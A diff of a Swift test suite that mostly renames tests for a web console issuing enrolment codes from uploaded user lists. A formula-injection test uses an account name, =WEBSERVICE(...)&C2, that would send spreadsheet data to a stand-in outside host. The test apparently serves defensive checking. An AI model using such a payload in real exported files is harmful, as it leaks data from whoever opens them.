@@ -39,7 +39,9 @@ import WebMessages
     }
   }
 
-  @Test func `a list is checked first, and its codes then come as a file that no browser caches`() async throws {
+  @Test func `a list of people is checked first, and its codes then come as a file that no browser caches`()
+    async throws
+  {
     let (browser, _) = try await server.signedIn("alice", .helpdesk)
     let csrf = try await browser.csrf()
     let list = "username,lifetime\r\nbob,60\r\n\"car,ol\",\r\n"
@@ -64,7 +66,7 @@ import WebMessages
     #expect(actors == ["administrator alice"])
   }
 
-  @Test func `an account name that is a formula is not a formula in the file with the codes`() async throws {
+  @Test func `an account name that looks like a formula is not computed in the file with the codes`() async throws {
     let (browser, _) = try await server.signedIn("alice", .helpdesk)
     let csrf = try await browser.csrf()
     let name = #"=WEBSERVICE("http://a.test/?"&C2)"#
@@ -77,7 +79,9 @@ import WebMessages
     #expect(try payloads(answer).map(\.username) == [name, "@bob"])
   }
 
-  @Test func `the codes come as sheets if that was asked for, in the language of the sheets`() async throws {
+  @Test func `the codes of a list come as sheets if the form asks for that, in the language of the sheets`()
+    async throws
+  {
     let (browser, _) = try await server.signedIn("alice", .helpdesk)
     let csrf = try await browser.csrf()
     let list = "username\nbob\n\"<b>&\"\"'\"\n"
@@ -99,7 +103,9 @@ import WebMessages
   }
 
   @Test(arguments: [[("form", "pictures")], [("form", "sheets")], [("form", "sheets"), ("language", "fr")]])
-  func `an unknown output form, or an unknown sheet language, issues no code`(more: [(String, String)]) async throws {
+  func `a list with an unknown form of output, or an unknown language of its sheets, gets no code`(
+    more: [(String, String)]
+  ) async throws {
     let (browser, _) = try await server.signedIn("alice", .helpdesk)
     let csrf = try await browser.csrf()
     let before = try await codes()
@@ -108,7 +114,8 @@ import WebMessages
     #expect(try await codes() == before)
   }
 
-  @Test func `sheets beyond the limit are neither offered nor made`() async throws {
+  @Test func `if a list has more people than sheets are allowed for, sheets are neither offered nor made`() async throws
+  {
     let (browser, _) = try await server.signedIn("alice", .helpdesk)
     let csrf = try await browser.csrf()
     let list = "username\n" + (0...ListPages.mostSheets).map { "person\($0)\n" }.joined()
@@ -135,7 +142,8 @@ import WebMessages
     #expect(text.contains("<td data-column=\"Used\">\(used)</td>"))
   }
 
-  @Test func `each wrong line is named by its number, and nothing is issued unless wrong lines may be skipped`()
+  @Test
+  func `each wrong line of a list is named by its number, and no code is issued unless wrong lines may be skipped`()
     async throws
   {
     let (browser, _) = try await server.signedIn("alice", .administrator)
@@ -177,7 +185,8 @@ import WebMessages
     #expect(ConsoleBrowser.text(await browser.get("/console/enrol-list")).contains("명단 등록"))
   }
 
-  @Test(arguments: [Role.auditor, .operator]) func `a role that may not issue codes is refused the page and its forms`(
+  @Test(arguments: [Role.auditor, .operator])
+  func `a role that may not issue codes is refused the page for lists and its forms`(
     role: Role
   ) async throws {
     let (browser, _) = try await server.signedIn("alice", role)
@@ -189,7 +198,8 @@ import WebMessages
     }
   }
 
-  @Test(arguments: [check, issue]) func `a forged form, a wrong method and an unknown form are refused`(
+  @Test(arguments: [check, issue])
+  func `a forged form for a list is refused, and so are a wrong method and an unknown form`(
     path: String
   ) async throws {
     let (browser, _) = try await server.signedIn("alice", .administrator)
@@ -206,7 +216,7 @@ import WebMessages
     #expect(try await codes() == before)
   }
 
-  @Test func `the check refuses a list that is too long for the form that issues its codes`() async throws {
+  @Test func `checking a list refuses one that would be too long for the form that issues its codes`() async throws {
     let (browser, _) = try await server.signedIn("alice", .helpdesk)
     let csrf = try await browser.csrf()
     let list = "username\n" + String(repeating: "\n", count: 600_000)
@@ -227,7 +237,7 @@ import WebMessages
     #expect(await browser.upload(Self.check, form(list, csrf: csrf)).status == (isTaken ? .ok : .conflict))
   }
 
-  @Test func `ten thousand people with long names get their codes`() async throws {
+  @Test func `a list of ten thousand people with long names gets its codes`() async throws {
     let (browser, _) = try await server.signedIn("alice", .helpdesk)
     let csrf = try await browser.csrf()
     let name = String(repeating: "n", count: 92)
